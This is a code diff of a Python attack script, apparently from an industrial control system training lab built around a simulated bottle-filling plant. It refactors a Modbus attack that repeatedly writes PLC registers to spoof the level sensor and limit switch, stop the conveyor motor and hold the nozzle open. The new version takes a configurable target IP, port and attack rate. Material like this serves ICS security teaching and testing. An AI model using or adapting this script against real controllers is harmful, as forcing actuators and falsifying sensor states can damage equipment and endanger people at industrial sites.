@@ -1,9 +1,34 @@
 #!/usr/bin/env python
 
-from pymodbus.client.sync import ModbusTcpClient as ModbusClient
-from pymodbus.exceptions import ConnectionException
 import logging
 
+import argparse
+import os
+import sys
+
+# Plant register tags (which also puts the shared modules on the path)
+sys.path.append(os.path.join(os.path.dirname(os.path.abspath(__file__)), '..'))
+from bottle_tags import *
+from attack_engine import AttackEngine, add_arguments
+
+# Override Argument parser to throw error and generate help message
+# if undefined args are passed
+class MyParser(argparse.ArgumentParser):
+    def error(self, message):
+        sys.stderr.write('error: %s\n' % message)
+        self.print_help()
+        sys.exit(2)
+
+# Create argparser object to add command line args and help option
+parser = MyParser(
+    description = 'This attack script stops the conveyor and keeps the nozzle open',
+    epilog = '',
+    add_help = True)
+parser.add_argument("-t", action = "store", dest="target", default="localhost",
+                    help = "Target modbus IP address (default localhost)")
+add_arguments(parser, 502)
+args = parser.parse_args()
+
 logging.basicConfig()
 log = logging.getLogger()
 log.setLevel(logging.INFO)
@@ -11,17 +36,11 @@ log.setLevel(logging.INFO)
 #####################################
 # Code
 #####################################
-client = ModbusClient('localhost', port=502)
-
-try:
-    client.connect()
-    while True:
-        rq = client.write_register(0x10, 1) # Run Plant, Run!
-        rq = client.write_register(0x1, 0) # Level Sensor
-        rq = client.write_register(0x2, 1) # Limit Switch
-        rq = client.write_register(0x3, 0) # Motor
-        rq = client.write_register(0x4, 1) # Nozzle
-except KeyboardInterrupt:
-    client.close()
-except ConnectionException:
-    print "Unable to connect / Connection lost"
+engine = AttackEngine(args.target, args.port, tags, {
+    PLC_TAG_RUN: 1, # Run Plant, Run!
+    PLC_TAG_LEVEL_SENSOR: 0, # Level Sensor
+    PLC_TAG_LIMIT_SWITCH: 1, # Limit Switch
+    PLC_TAG_MOTOR: 0, # Motor
+    PLC_TAG_NOZZLE: 1, # Nozzle
+}, rate=args.rate, window=args.window, duration=args.duration)
+engine.run()